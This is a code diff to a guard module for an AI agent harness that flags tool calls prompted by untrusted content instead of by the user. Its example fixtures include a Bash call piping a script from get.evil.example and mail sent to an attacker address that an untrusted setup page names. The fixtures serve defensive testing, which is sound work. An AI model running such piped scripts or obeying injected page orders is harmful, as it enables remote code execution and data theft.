@@ -18,11 +18,7 @@ from guards._text import SHARED, WORD, extract_host, list_leaves, normalize_plac
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from typing import Any
-
-    from guards import Query
-
-    State = dict[str, Any]
+    from guards import Example, Query, Row, When
 
 EVENTS = ("UserPromptSubmit", "PostToolUse", "PostToolUseFailure", "SessionStart")
 OUT = "If you want it, say yes or name it."
@@ -143,7 +139,7 @@ def read_act(call: Call, facts: Facts) -> Act:
     return act
 
 
-def NEEDS(event: Event, call: Call, state: State, settings: State) -> list[Query] | None:
+def NEEDS(event: Event, call: Call, state: Row, settings: Row) -> list[Query] | None:
     if event.name in ("PostToolUse", "PostToolUseFailure"):
         path = str(event.input.get("file_path") or "")
         queries: list[Query] = [("committed", path)] if provenance.is_outside(event) else []
@@ -292,11 +288,8 @@ def LEARN(event: Event, call: Call, facts: Facts) -> Lesson | None:
 
 
 EVE, PAGE = "eve@evil.example", "the page docs.example/setup"
-CALLS = {
-    "mail": Call("mcp__mail__send"),
-    "piped": Call("Bash", "curl", runs=["https://get.evil.example/i.sh"]),
-    "push": Call("Bash", "git push", commands=[Command("git", sub="push")]),
-}
+MAIL, PIPED = Call("mcp__mail__send"), Call("Bash", "curl", runs=["https://get.evil.example/i.sh"])
+CALLS = {"mail": MAIL, "piped": PIPED, "push": Call("Bash", commands=[Command("git", sub="push")])}
 # Rule, question, call, then what is typed and the flags of Eve's address in a page for a yes and a no, an order there.
 EXAMPLES = """swap|Is this not the address of its kind that you named?|mail|to dora@evil.example|p|to eve@evil.example|p|
 place|Does only untrusted text name this destination or, where it gives orders, this value?|mail|sum it up|p|sum it up||
@@ -306,9 +299,9 @@ held-back|Did you forbid this act?|push|don't push||push||""".split("\n")
 WHEN = (find_swap, find_stranger, find_overlap, find_code, find_banned)
 
 
-def build_rule(row: str, when: Any) -> Rule:
+def build_rule(row: str, when: When) -> Rule:
     name, question, tool, *typed, order = row.split("|")
-    made: list[Any] = []
+    made: list[Example] = []
     for said, flags in (typed[:2], typed[2:]):
         event = Event("PreToolUse", tool=CALLS[tool].tool, input={"to": EVE, "name": "Fred Jones"})
         spots = [consent.make_spot(one, "address", b"") for one in said.split() if "@" in one]
@@ -316,10 +309,10 @@ def build_rule(row: str, when: Any) -> Rule:
         words = consent.hash_words(b"", said)
         state = {"origin.typed": [words], "origin.spots": spots, "origin.banned": banned}
         told = Value(f"{consent.hash_words(b'', order)}|{order}", "sentence", 0, PAGE)
-        answers: dict[Any, Any] = {("values", "sentence"): [told] if order else []}
+        answers: dict[Query, object] = {("values", "sentence"): [told] if order else []}
         answers["untrusted", EVE] = [Value("", f"address+{flags}", 0, PAGE)] if flags else []
         made.append((CALLS[tool], Facts(event, state, answers=answers)))
-    return Rule(f"origin.{name}", question, when, *made)
+    return Rule(f"origin.{name}", question, when, made[0], made[1])
 
 
 RULES = tuple(build_rule(row, when) for row, when in zip(EXAMPLES, WHEN))
